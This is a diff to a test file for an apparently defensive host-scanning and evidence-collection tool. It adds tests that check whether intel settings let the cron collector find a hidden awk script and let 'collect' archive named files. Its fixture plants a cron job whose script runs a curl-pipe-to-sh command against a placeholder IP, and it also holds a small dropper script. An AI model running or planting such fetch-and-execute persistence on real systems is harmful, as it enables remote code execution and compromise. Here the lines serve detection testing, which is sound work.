@@ -7,6 +7,7 @@ import { after, describe, it } from 'node:test';
 import type { Snapshot } from '../src/model/facts';
 import type { ScanResult } from '../src/model/scan-result';
 import { sshd, syslogLines } from './helpers/auth-log';
+import { readArchive } from '../src/respond/collect';
 import { FakeRoot } from './helpers/fake-root';
 import { scannerBundle } from './helpers/namespace';
 
@@ -33,6 +34,10 @@ describe('intel reaches the collectors and the verdict', () => {
   const root = new FakeRoot()
     .base()
     .write('/etc/timezone', 'Etc/UTC\n')
+    // A job run by an interpreter the built-in list does not know: its script is found only when the intel names it.
+    .write('/etc/cron.d/stats', '*/5 * * * * root /usr/bin/gawk -f /var/tmp/.s/run.awk\n', { mtime: new Date('2026-11-19T10:00:00Z') })
+    .write('/usr/bin/gawk', '\x7fELF', { mode: 0o755 })
+    .write('/var/tmp/.s/run.awk', 'BEGIN { system("curl -s http://203.0.113.9/x | sh") }\n', { mtime: new Date('2026-11-19T10:00:00Z') })
     // Deeper than the walk of /var/lib goes: only a path the intel names is looked at there.
     .write(dropper, '#!/bin/sh\nexec /tmp/x\n', { mode: 0o755, mtime: new Date('2026-11-19T10:00:00Z') })
     // Two failed passwords from one address: below any built-in brute-force limit.
@@ -75,6 +80,36 @@ describe('intel reaches the collectors and the verdict', () => {
     const hit = told.result.findings.find((f) => f.rule === 'files/known-malware-file');
     assert.ok(hit, JSON.stringify(told.result.findings.map((f) => f.rule)));
     assert.ok(JSON.stringify(hit).includes(dropper));
+  });
+
+  it('an interpreter added by --intel paths.interpreters makes the cron collector resolve the script it runs', () => {
+    const targets = (snap: Snapshot) =>
+      (snap.facts.cronJobs ?? [])
+        .filter((t) => t.file.path === '/etc/cron.d/stats')
+        .flatMap((t) => t.entries.flatMap((e) => e.targets.map((x) => x.path)));
+    assert.deepEqual(targets(scanTo('no-awk.json', []).snapshot), ['/usr/bin/gawk']);
+    const intel = file('awk.yaml', 'paths:\n  interpreters: [gawk]\n');
+    assert.deepEqual(targets(scanTo('awk.json', ['--intel', intel]).snapshot), ['/usr/bin/gawk', '/var/tmp/.s/run.awk']);
+  });
+
+  it("collect --intel gathers the files the user's intel names into the archive", async () => {
+    const intel = file('collect-known.yaml', `files:\n  knownPaths: [${dropper}]\n`);
+    const archive = path.join(work, 'ir.tar.gz');
+    const r = hostsweep(['collect', '--root', root.dir, '-o', archive, '--intel', intel]);
+    assert.equal(r.status, 0, r.stderr);
+    const members = await readArchive(archive);
+    assert.ok(members.has(`files${dropper}`), [...members.keys()].join(', '));
+    const bad = hostsweep([
+      'collect',
+      '--root',
+      root.dir,
+      '-o',
+      path.join(work, 'bad.tar.gz'),
+      '--intel',
+      file('bad.yaml', 'files:\n  knownPath: [x]\n'),
+    ]);
+    assert.equal(bad.status, 2);
+    assert.match(bad.stderr, /bad\.yaml: files, key "knownPath": unknown key/);
   });
 
   it('auth sources below the built-in limit stay in the snapshot, so analyze with a lower limit reports them', () => {
